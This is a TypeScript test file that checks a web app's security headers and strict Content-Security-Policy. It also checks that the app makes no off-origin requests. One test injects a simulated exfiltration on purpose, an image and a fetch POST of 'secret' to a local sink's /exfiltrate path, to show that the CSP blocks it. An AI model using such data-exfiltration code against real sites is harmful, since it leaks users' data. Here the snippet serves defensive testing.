import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { COMMON_HEADERS, PAGE_CSP, SERVICE_WORKER_CSP } from '../../src/security/headers.ts';
import {
  distDir,
  launchBrowser,
  newAppPage,
  screenshot,
  startServer,
  startSink,
  type AppPage,
  type Server,
  type Sink,
} from './harness.ts';

let server: Server;
let browser: Browser | undefined;
let app: AppPage | undefined;

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

afterEach(async () => {
  const current = app;
  app = undefined;
  if (!current) return;
  try {
    await current.guard.assertClean();
  } finally {
    await current.close();
  }
});

function expectStrictHeaders(headers: Headers, csp: string): void {
  expect(headers.get('content-security-policy')).toBe(csp);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('referrer-policy')).toBe('no-referrer');
  for (const [name, value] of Object.entries(COMMON_HEADERS)) {
    expect(headers.get(name), name).toBe(value);
  }
}

/** A JS file of the build, as a URL path (`/assets/index-abc123.js`). */
function builtScript(): string {
  const assets = join(distDir(), 'assets');
  const js = existsSync(assets) ? readdirSync(assets).find((f) => f.endsWith('.js')) : undefined;
  if (!js) throw new Error(`no .js file in ${assets}: is dist/ a production build?`);
  return `/assets/${js}`;
}

describe('security headers sent by the preview server (npm start)', () => {
  it('the page CSP forbids everything not bundled and every connection', () => {
    expect(PAGE_CSP).toContain("default-src 'none'");
    expect(PAGE_CSP).toContain("connect-src 'none'");
  });

  for (const path of ['/', '/index.html', '/some/deep/link']) {
    it(`${path} is served with the page CSP and the common headers`, async () => {
      const response = await fetch(new URL(path, server.url));
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/html/);
      expectStrictHeaders(response.headers, PAGE_CSP);
    });
  }

  it('a built JS asset is served with the page CSP and the common headers', async () => {
    const response = await fetch(new URL(builtScript(), server.url));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/javascript/);
    expectStrictHeaders(response.headers, PAGE_CSP);
  });

  it('/sw.js is served with the service-worker CSP (same-origin connect only)', async () => {
    const response = await fetch(new URL('/sw.js', server.url));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/javascript/);
    expectStrictHeaders(response.headers, SERVICE_WORKER_CSP);
    expect(SERVICE_WORKER_CSP).toContain("connect-src 'self'");
  });

  it('the web app manifest and its icons are served from the origin with the page CSP', async () => {
    const response = await fetch(new URL('/manifest.webmanifest', server.url));
    expect(response.status).toBe(200);
    expectStrictHeaders(response.headers, PAGE_CSP);
    const manifest = (await response.json()) as { icons: { src: string }[] };
    for (const { src } of manifest.icons) {
      const icon = await fetch(new URL(src, server.url));
      expect(icon.status, src).toBe(200);
      expectStrictHeaders(icon.headers, PAGE_CSP);
    }
  });
});

describe('the app in Chromium under the strict CSP', () => {
  it('starts with zero CSP violations, errors or off-origin requests', async () => {
    app = await newAppPage(browser!, server.url);
    await app.page.waitForFunction(() => document.querySelector('#app > *:not(.opening)') !== null);
    await screenshot(app.page, 'security-headers-app-start');
    // The document really got the header CSP (not a meta tag or nothing).
    const response = await app.page.request.get(server.url);
    expect(response.headers()['content-security-policy']).toBe(PAGE_CSP);
    // afterEach: app.guard.assertClean()
  });

  it('makes no call to another origin: a sink server on another port gets zero hits', async () => {
    const sink: Sink = await startSink();
    try {
      app = await newAppPage(browser!, server.url);
      await app.page.waitForFunction(
        () => document.querySelector('#app > *:not(.opening)') !== null,
      );
      // Let deferred work (service worker install, timers, idle callbacks) run, then reload once.
      await app.page.waitForTimeout(1_000);
      await app.page.reload({ waitUntil: 'load' });
      await app.page.waitForTimeout(1_000);
      expect(sink.hits).toEqual([]);
    } finally {
      await sink.close();
    }
  });

  it('the guard and the CSP catch a page that tries to reach another origin', async () => {
    const sink = await startSink();
    try {
      // The sink counts hits: a direct request from Node reaches it.
      await fetch(`${sink.url}/from-node`);
      expect(sink.hits).toEqual(['GET /from-node']);

      app = await newAppPage(browser!, server.url);
      const outcome = await app.page.evaluate(async (target) => {
        const img = document.createElement('img');
        img.src = `${target}/pixel.png`;
        document.body.append(img);
        try {
          await fetch(`${target}/exfiltrate`, { method: 'POST', body: 'secret', mode: 'no-cors' });
          return 'sent';
        } catch {
          return 'blocked';
        }
      }, sink.url);
      expect(outcome).toBe('blocked');
      await expect
        .poll(async () => (await app!.guard.collect()).map((f) => f.kind))
        .toEqual(expect.arrayContaining(['off-origin request', 'CSP violation']));
      // CSP-blocked fetch() fires no playwright `request` event; the CSP listener catches it.
      const violations = await app.page.evaluate(() => window.__cspViolations ?? []);
      const atSink = violations.filter((v) => v.blockedURI.startsWith(sink.url));
      expect(atSink.map((v) => v.directive).sort()).toEqual(['connect-src', 'img-src']);
      await expect(app.guard.assertClean()).rejects.toThrow(/exfiltrate/);
      expect(sink.hits).toEqual(['GET /from-node']);
    } finally {
      app?.guard.clear(); // the findings were provoked on purpose
      await sink.close();
    }
  });
});
